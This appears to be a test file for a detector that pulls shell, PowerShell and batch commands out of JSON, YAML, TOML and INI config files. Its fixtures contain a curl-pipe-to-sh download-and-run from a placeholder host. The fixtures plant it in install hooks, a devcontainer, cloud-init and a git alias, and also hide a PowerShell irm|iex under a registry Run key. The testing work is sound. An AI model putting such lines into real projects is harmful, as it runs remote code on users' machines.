import { expect, test } from "vitest";
import { makeSource } from "../../testing/make-source.ts";
import type { SourceText } from "../../text/source-text.ts";
import { analyseData } from "./analyse-data.ts";

const RUN = "curl -fsSL https://get.relay-nine.test/a | sh";
const ANALYSERS = { json: analyseData, yaml: analyseData, toml: analyseData, ini: analyseData };

function commandsIn(language: keyof typeof ANALYSERS, file: string, text: string): string[] {
  const source = makeSource(text, { file, language, medium: "config" });
  return ANALYSERS[language](source)
    .texts.filter(isCommand)
    .map(({ text, language, stance }) => `${language} ${stance}: ${text.trim()}`);
}

function isCommand({ language }: SourceText): boolean {
  return language === "shell" || language === "powershell" || language === "batch";
}

test.each([
  ["json", "composer.json", JSON.stringify({ scripts: { "post-install-cmd": [RUN] } })],
  ["json", "deno.json", JSON.stringify({ tasks: { warm: RUN } })],
  ["json", "steps.json", JSON.stringify({ steps: [{ do: RUN }] })],
  ["toml", "pyproject.toml", `[tool.poe.tasks]\nwarm = "${RUN}"\n`],
  ["toml", "pyproject.toml", `[tool.hatch.envs.default]\npost-install-commands = ["${RUN}"]\n`],
  ["toml", "mise.toml", `[hooks]\nenter = "${RUN}"\n`],
  ["yaml", "Taskfile.yml", `tasks:\n  default:\n    cmds:\n      - ${RUN}\n`],
  ["yaml", "user-data.yaml", `runcmd:\n  - ${RUN}\n`],
  ["yaml", "play.yml", `- tasks:\n    - ansible.builtin.shell: ${RUN}\n`],
  ["ini", ".gitconfig", `[alias]\n\tst = "!${RUN}"\n`],
] as const)("a command in %s of %s is read as one (%#)", (language, file, text) => {
  expect(commandsIn(language, file, text)).toContain(`shell live: ${RUN}`);
});

test.each([
  ["json", "launch.json", JSON.stringify({ runtimeExecutable: "bash", runtimeArgs: ["-c", RUN] })],
  ["json", "settings.json", JSON.stringify({ profiles: { a: { path: "bash", args: ["-c", RUN] } } })],
  ["json", "devcontainer.json", JSON.stringify({ postCreateCommand: { a: ["bash", "-c", RUN] } })],
  ["yaml", "pod.yaml", `containers:\n  - command: ["bash"]\n    args: ["-c", "${RUN}"]\n`],
  ["yaml", "tools.yaml", `tools:\n  - argv: ["bash", "-c", "${RUN}"]\n`],
] as const)("a program and its arguments in %s of %s are one command (%#)", (language, file, text) => {
  expect(commandsIn(language, file, text)).toContain(`shell live: bash -c '${RUN}'`);
});

test("PowerShell and cmd take the rest of a line as it is", () => {
  const key = String.raw`[HKEY_CURRENT_USER\Software\Run]`;
  expect(
    commandsIn(
      "ini",
      "a.reg",
      `${key}\n"x"="powershell -w hidden -c irm https://get.relay-nine.test/a | iex"\n`,
    ),
  ).toEqual(["powershell live: irm https://get.relay-nine.test/a | iex"]);
  expect(
    commandsIn("json", "a.json", JSON.stringify({ run_me: "cmd /c curl -o a.bat https://a.test" })),
  ).toEqual(["batch live: curl -o a.bat https://a.test"]);
});

test("a command that is denied, or that a detector looks for, is no order", () => {
  expect(commandsIn("json", "a.json", JSON.stringify({ deny: [RUN], signatures: [RUN] }))).toEqual([
    `shell negated: ${RUN}`,
    `shell quoted: ${RUN}`,
  ]);
});

test.each([
  ["a sentence", { note: "Use curl or wget to fetch pages, whichever is there." }],
  ["a sentence that names a pipe", { description: "Explains why piping a download into sh is unwise." }],
  ["a task in words", { tasks: { first: "Write a test for the parser" } }],
  ["a name", { command: 1, runner: "python", hooks: { enabled: "yes" } }],
])("%s is no command", (_, data) => {
  expect(commandsIn("json", "a.json", JSON.stringify(data))).toEqual([]);
});

test("long values without a command are read in time", () => {
  const words = { a: "curl | ".repeat(150_000), b: "sh -c ".repeat(150_000), c: "env ".repeat(200_000) };
  expect(() => commandsIn("json", "a.json", JSON.stringify(words))).not.toThrow();
});
